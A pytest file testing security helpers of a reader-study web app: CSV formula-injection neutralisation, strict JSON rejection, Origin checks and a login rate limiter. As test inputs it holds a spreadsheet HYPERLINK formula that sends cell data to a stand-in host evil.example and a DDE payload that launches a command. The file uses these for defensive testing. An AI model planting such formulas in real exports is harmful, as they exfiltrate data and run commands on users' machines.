"""Pure functions of the reader-study web app: CSV formula neutralisation, strict JSON, Origin checks,
the login rate limiter."""

from __future__ import annotations

import csv
import io

import pytest

pytest.importorskip("sqlalchemy")
pytest.importorskip("fastapi")

from dermadv.readerstudy.app import MAX_JSON_DEPTH, strict_json_problem  # noqa: E402
from dermadv.readerstudy.store import (  # noqa: E402
    CHANGE_COLUMNS,
    EXPORT_COLUMNS,
    changes_csv_text,
    export_csv_text,
    neutralise_cell,
    original_csv_text,
)
from dermadv.readerstudy.web import LoginLimiter, origin_allowed, origin_of  # noqa: E402


@pytest.mark.parametrize(
    "value, expected",
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Dr A")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Dr A")',
        ),
        ("+1-555", "'+1-555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("Dr = A", "Dr = A"),
        ("Dr A", "Dr A"),
        ("", ""),
        (-3, -3),  # numbers stay numbers
        (2.5, 2.5),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_exports_neutralise_every_text_cell():
    row = {k: "" for k in EXPORT_COLUMNS} | {
        "reader_id": 1,
        "reader": "=cmd|' /C calc'!A0",
        "role": "@admin",
        "image_name": "abc.png",
        "answer_label": "+Melanoma",
        "client_ms": -0.0,
        "confidence": None,
    }
    text = export_csv_text([row])
    got = next(csv.DictReader(io.StringIO(text)))
    assert got["reader"] == "'=cmd|' /C calc'!A0" and got["role"] == "'@admin"
    assert got["answer_label"] == "'+Melanoma" and got["client_ms"] == "-0.0" and got["confidence"] == ""
    original = original_csv_text([row], 1).splitlines()
    assert original == ["Image_name,Diagnosis", "abc.png,'+Melanoma"]
    change = {k: "" for k in CHANGE_COLUMNS} | {"reader": "=1+2", "old_answer": "melanoma"}
    assert next(csv.DictReader(io.StringIO(changes_csv_text([change]))))["reader"] == "'=1+2"


@pytest.mark.parametrize(
    "body",
    [
        b'{"client_ms": NaN}',
        b'{"client_ms": Infinity}',
        b'{"client_ms": -Infinity}',
        b'{"confidence": NaN, "answer": "melanoma"}',
        b'{"client_ms": 1e999}',
        b'{"client_ms": -1e400}',
        b'{"a": ' + b"1" * 5000 + b"}",  # beyond Python's int-string limit
        b"[" * 100_000 + b"]" * 100_000,  # deeper than the C parser's recursion limit
        b'{"a":' * (MAX_JSON_DEPTH + 1) + b"1" + b"}" * (MAX_JSON_DEPTH + 1),
        b'{"a": 1',
        b"\xff\xfe{}",
        b"\xef\xbb\xbf{}",  # UTF-8 byte order mark
    ],
)
def test_strict_json_problem_refuses(body):
    problem = strict_json_problem(body)
    assert problem is not None and len(problem) < 300


@pytest.mark.parametrize(
    "body",
    [b'{"client_ms": 1e308}', b'{"a": [1, 2, {"b": null}]}', b"[]", b'"text"', b"0", b"null", b'{"a": -0.0}'],
)
def test_strict_json_problem_accepts(body):
    assert strict_json_problem(body) is None


def test_origin_checks():
    own = "http://127.0.0.1:8000"
    assert origin_of("HTTP://Example.org:80/path?q") == "http://example.org"
    assert origin_of("https://[::1]:8443/") == "https://[::1]:8443"
    assert origin_allowed("http://127.0.0.1:8000", None, own, None)
    assert not origin_allowed("http://127.0.0.1:8001", None, own, None)  # same site, another port
    assert not origin_allowed("http://localhost:8000", None, own, None)
    assert not origin_allowed("null", None, own, None)
    assert not origin_allowed("https://127.0.0.1:8000", None, own, None)  # another scheme
    assert origin_allowed("https://study.example.org", None, own, "https://study.example.org/")
    assert not origin_allowed("https://evil.example.org", None, own, "https://study.example.org")
    assert origin_allowed(None, "http://127.0.0.1:8000/coordinator", own, None)
    assert not origin_allowed(None, "http://127.0.0.1:9999/evil.html", own, None)
    assert origin_allowed(None, None, own, None)  # scripts send neither header


def test_login_limiter():
    limiter = LoginLimiter(max_failures=3, window=60)
    for _ in range(3):
        assert limiter.retry_after("10.0.0.1") == 0
        limiter.failed("10.0.0.1")
    assert 0 < limiter.retry_after("10.0.0.1") <= 61
    assert limiter.retry_after("10.0.0.2") == 0  # per address
